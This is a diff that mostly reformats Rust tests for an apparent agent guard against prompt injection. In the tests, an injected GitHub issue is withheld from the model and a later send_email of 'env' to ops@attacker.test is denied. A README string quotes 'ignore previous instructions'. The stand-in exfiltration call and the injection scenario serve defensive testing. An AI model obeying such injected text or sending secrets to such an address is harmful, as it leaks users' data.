@@ -62,7 +62,10 @@ async fn an_injected_issue_is_withheld_and_judges_the_run_after_it() {
         ]
     );
     let v = host
-        .check_result(&fetched("c1", "get_issue", json!({"repo": "acme/app", "number": 42})), &text(ISSUE))
+        .check_result(
+            &fetched("c1", "get_issue", json!({"repo": "acme/app", "number": 42})),
+            &text(ISSUE),
+        )
         .await;
     assert_eq!(v.action, ResultAction::Withhold, "{v:?}");
     assert_eq!(v.content, None, "the model never reads the issue");
@@ -70,21 +73,51 @@ async fn an_injected_issue_is_withheld_and_judges_the_run_after_it() {
     assert_eq!(v.labels.len(), 1, "{v:?}");
     assert_eq!(v.labels[0].name, "untrusted-instructions");
     assert_eq!(v.labels[0].values, vec!["ops@attacker.test".to_string()]);
-    assert_eq!((v.labels[0].tool.as_str(), v.labels[0].call_id.as_str()), ("get_issue", "c1"));
+    assert_eq!(
+        (v.labels[0].tool.as_str(), v.labels[0].call_id.as_str()),
+        ("get_issue", "c1")
+    );
 
     // The address the issue named: chosen by the content, denied.
-    let d = later(&host, &v, "send_email", json!({"to": "OPS@attacker.test", "body": "env"})).await;
+    let d = later(
+        &host,
+        &v,
+        "send_email",
+        json!({"to": "OPS@attacker.test", "body": "env"}),
+    )
+    .await;
     assert_eq!(d.decision, Decision::Deny, "{d:?}");
-    assert_eq!(d.rule.as_deref(), Some("injection.content-chosen-destination"));
-    assert!(d.reason.as_deref().unwrap().contains("`get_issue` (call `c1`)"), "{d:?}");
+    assert_eq!(
+        d.rule.as_deref(),
+        Some("injection.content-chosen-destination")
+    );
+    assert!(
+        d.reason
+            .as_deref()
+            .unwrap()
+            .contains("`get_issue` (call `c1`)"),
+        "{d:?}"
+    );
     // Another recipient: an outward call after untrusted instructions is held.
-    let d = later(&host, &v, "send_email", json!({"to": "dana@acme.com", "body": "fixed"})).await;
+    let d = later(
+        &host,
+        &v,
+        "send_email",
+        json!({"to": "dana@acme.com", "body": "fixed"}),
+    )
+    .await;
     assert_eq!(d.decision, Decision::Escalate, "{d:?}");
-    assert_eq!(d.rule.as_deref(), Some("injection.after-untrusted-instructions"));
+    assert_eq!(
+        d.rule.as_deref(),
+        Some("injection.after-untrusted-instructions")
+    );
     // A read is not; nor is the same send without the run's labels.
     let d = later(&host, &v, "read_file", json!({"path": "src/main.rs"})).await;
     assert_eq!(d.decision, Decision::Allow, "{d:?}");
-    let plain = call("send_email", json!({"to": "dana@acme.com", "body": "fixed"}));
+    let plain = call(
+        "send_email",
+        json!({"to": "dana@acme.com", "body": "fixed"}),
+    );
     assert_eq!(host.check(&plain).await.decision, Decision::Allow);
 }
 
@@ -118,14 +151,19 @@ async fn credentials_in_a_result_reach_the_model_masked() {
         .await;
     assert_eq!(
         v.content,
-        Some(ResultContent::Json(json!({"items": [{"name": "ci", "value": "[redacted: github-token]"}]}))),
+        Some(ResultContent::Json(
+            json!({"items": [{"name": "ci", "value": "[redacted: github-token]"}]})
+        )),
         "{v:?}"
     );
     // A README that talks about prompt injection passes untouched.
     let readme = "# Security\n\nPrompt injection attacks such as \"ignore previous instructions\" \
                   hide in issues; we scan for them. To report one, email security@acme.com.";
     let v = host
-        .check_result(&fetched("c4", "read_file", json!({"path": "SECURITY.md"})), &text(readme))
+        .check_result(
+            &fetched("c4", "read_file", json!({"path": "SECURITY.md"})),
+            &text(readme),
+        )
         .await;
     assert_eq!(v.action, ResultAction::Pass, "{v:?}");
     assert!(v.labels.is_empty(), "{v:?}");
